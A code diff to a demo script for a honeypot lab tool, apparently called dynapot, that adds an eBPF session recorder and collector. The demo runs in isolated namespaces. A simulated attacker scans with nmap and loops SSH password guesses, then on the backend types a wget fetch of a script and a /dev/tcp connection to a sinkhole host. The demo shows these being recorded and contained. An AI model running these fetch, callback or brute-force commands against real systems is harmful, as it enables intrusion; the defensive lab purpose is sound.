@@ -10,7 +10,9 @@ correlates this into findings, and `dynapot report` shows who did what (also wri
 report.html). A real high-interaction backend (its own namespace, a real sshd, routed only
 through the sensor) stands behind the Linux virtual hosts' SSH port: the attacker logs in on a
 virtual host, lands on the backend with its own address, and what the backend then tries to
-reach is sinkholed, then refused. Then the lab is torn down. Each step is the CLI command an administrator
+reach is sinkholed, then refused; the backend's recorder (`dynapot agent`) ships what the
+intruder types to the collector in `dynapot run`, so `dynapot sessions` and the report's story
+per attacker show it. Then the lab is torn down. Each step is the CLI command an administrator
 would type, printed before it runs.
 """
 
@@ -30,6 +32,7 @@ import click
 
 from dynapot.lab import Lab, lab_up
 from dynapot.lab.backend import BackendHost, high_interaction_backend
+from dynapot.lab.recording import COLLECTOR_PORT, running_agent
 from dynapot.processes import python_command, terminate
 
 DEMO_PORTS = "21,22,23,25,80,110,139,143,443,445,3306,3389,8080"
@@ -145,6 +148,10 @@ urls = []               # e.g. ["mailto://...", "json://hooks.example/dynapot"]
 [redirect]
 mode = "packet"         # the backend sees the attacker's own address
 outbound_per_hour = 2   # what the backend starts: two answered by the sinkhole, then refused
+
+[collector]
+enabled = true          # Sebek v3 records from the backend's agent (dynapot agent) into sessions
+listen = "{lab.sensor.ip}:{COLLECTOR_PORT}"  # the backend's only route is the sensor
 """
     )
     return settings
@@ -180,49 +187,62 @@ def _deceive(
     try:
         _wait_deployed(out_dir / "engine", planned, daemon)
         _step([*dynapot, "status", "--config", str(settings)])
-        for host in targets:
-            click.echo(f"  {host['ip']} should look like: {host['personality']}")
-        ports = sorted({s["port"] for h in targets for s in h["services"]} | {1})
-        port_list = ",".join(str(p) for p in ports)
-        _step(["nmap", "-n", "-O", "-p", port_list, *(h["ip"] for h in targets)], netns=lab.attacker.netns)
-        redirected = _redirected(out_dir / "engine" / "honeyd.conf", backend)
-        # The password guesses go to an emulated SSH (it records each); the intruder, to the backend.
-        with_ssh = [
-            h["ip"]
-            for h in json.loads(plan_json.read_text())["virtual_hosts"]
-            if any(s["port"] == 22 for s in h["services"])
-        ]
-        ssh = [ip for ip in with_ssh if ip not in redirected] or with_ssh
-        if ssh and shutil.which("sshpass"):
-            click.secho(f"\n$ for i in $(seq 12); do sshpass -p guess-$i ssh root@{ssh[0]}; done", bold=True)
-            for attempt in range(12):
-                lab.exec(
-                    lab.attacker,
-                    ["sshpass", "-p", f"guess-{attempt}", "ssh", *_SSH_OPTIONS, f"root@{ssh[0]}", "true"],
-                    timeout=30,
-                )
-        _intrude(lab, redirected, backend)
-        time.sleep(3)  # the engine correlates every second
-        report = out_dir / "report.html"
-        _step(
-            [*dynapot, "report", "--since", "1h", "--config", str(settings), "--limit", "10", "--rows", "20"]
+        collector = f"{lab.sensor.ip}:{COLLECTOR_PORT}"
+        click.secho(
+            f"\n$ ip netns exec {backend.host.netns} dynapot agent --collector {collector}  &", bold=True
         )
-        _step(
-            [
-                *dynapot,
-                "report",
-                "--since",
-                "1h",
-                "--config",
-                str(settings),
-                "--format",
-                "html",
-                "-o",
-                str(report),
-            ]
-        )
+        click.echo("  (the recorder on the backend: eBPF on syscall tracepoints, its namespace only)")
+        with running_agent(lab, backend.host, collector, out_dir):
+            _attack(lab, plan_json, targets, out_dir, settings, backend)
     finally:
         terminate(daemon, 60)
+
+
+def _attack(
+    lab: Lab, plan_json: Path, targets: list[dict], out_dir: Path, settings: Path, backend: BackendHost
+) -> None:
+    """Scan, guess passwords, intrude on the backend, then show the sessions and the report."""
+    dynapot = python_command("-m", "dynapot")
+    for host in targets:
+        click.echo(f"  {host['ip']} should look like: {host['personality']}")
+    ports = sorted({s["port"] for h in targets for s in h["services"]} | {1})
+    port_list = ",".join(str(p) for p in ports)
+    _step(["nmap", "-n", "-O", "-p", port_list, *(h["ip"] for h in targets)], netns=lab.attacker.netns)
+    redirected = _redirected(out_dir / "engine" / "honeyd.conf", backend)
+    # The password guesses go to an emulated SSH (it records each); the intruder, to the backend.
+    with_ssh = [
+        h["ip"]
+        for h in json.loads(plan_json.read_text())["virtual_hosts"]
+        if any(s["port"] == 22 for s in h["services"])
+    ]
+    ssh = [ip for ip in with_ssh if ip not in redirected] or with_ssh
+    if ssh and shutil.which("sshpass"):
+        click.secho(f"\n$ for i in $(seq 12); do sshpass -p guess-$i ssh root@{ssh[0]}; done", bold=True)
+        for attempt in range(12):
+            lab.exec(
+                lab.attacker,
+                ["sshpass", "-p", f"guess-{attempt}", "ssh", *_SSH_OPTIONS, f"root@{ssh[0]}", "true"],
+                timeout=30,
+            )
+    _intrude(lab, redirected, backend)
+    time.sleep(3)  # the engine correlates every second
+    _step([*dynapot, "sessions", "--config", str(settings)])
+    report = out_dir / "report.html"
+    _step([*dynapot, "report", "--since", "1h", "--config", str(settings), "--limit", "10", "--rows", "20"])
+    _step(
+        [
+            *dynapot,
+            "report",
+            "--since",
+            "1h",
+            "--config",
+            str(settings),
+            "--format",
+            "html",
+            "-o",
+            str(report),
+        ]
+    )
 
 
 def _redirected(deployed: Path, backend: BackendHost) -> list[str]:
@@ -240,26 +260,22 @@ def _intrude(lab: Lab, redirected: list[str], backend: BackendHost) -> None:
         click.echo("  (no virtual host's SSH port is redirected to the backend: skipped)")
         return
     target = redirected[0]
-    commands = (
-        'id; cat ~/backend; who; echo "the backend sees me as ${SSH_CLIENT%% *}"; '
-        f"wget -q -t 1 -T 3 -O- http://{SINKHOLE_TARGET}/x.sh || echo 'wget: no answer'; "
+    typed = [
+        "id",
+        "cat ~/backend",
+        "who",
+        'echo "the backend sees me as ${SSH_CLIENT%% *}"',
+        f"wget -q -t 1 -T 3 -O- http://{SINKHOLE_TARGET}/x.sh || echo 'wget: no answer'",
         f"for i in 1 2; do (echo hi > /dev/tcp/{SINKHOLE_TARGET}/4444) 2>/dev/null "
-        "|| echo 'connect: refused'; done"
-    )
-    login = [
-        "sshpass",
-        "-p",
-        backend.password,
-        "ssh",
-        "-tt",
-        *_SSH_OPTIONS,
-        f"{backend.user}@{target}",
-        commands,
+        "|| echo 'connect: refused'; done",
+        "exit",
     ]
-    click.secho(
-        f"\n$ sshpass -p {backend.password} ssh {backend.user}@{target} {shlex.quote(commands)}", bold=True
-    )
-    result = lab.exec(lab.attacker, login, timeout=60)
+    login = ["sshpass", "-p", backend.password, "ssh", "-tt", *_SSH_OPTIONS, f"{backend.user}@{target}"]
+    click.secho(f"\n$ sshpass -p {backend.password} ssh {backend.user}@{target}", bold=True)
+    click.echo("  (typed on its terminal, one line at a time:)")
+    for line in typed:
+        click.echo(f"  > {line}")
+    result = lab.exec(lab.attacker, login, input="\n".join(typed) + "\n", timeout=60)
     click.echo(result.stdout.replace("\r", "").rstrip() or result.stderr.rstrip())
 
 
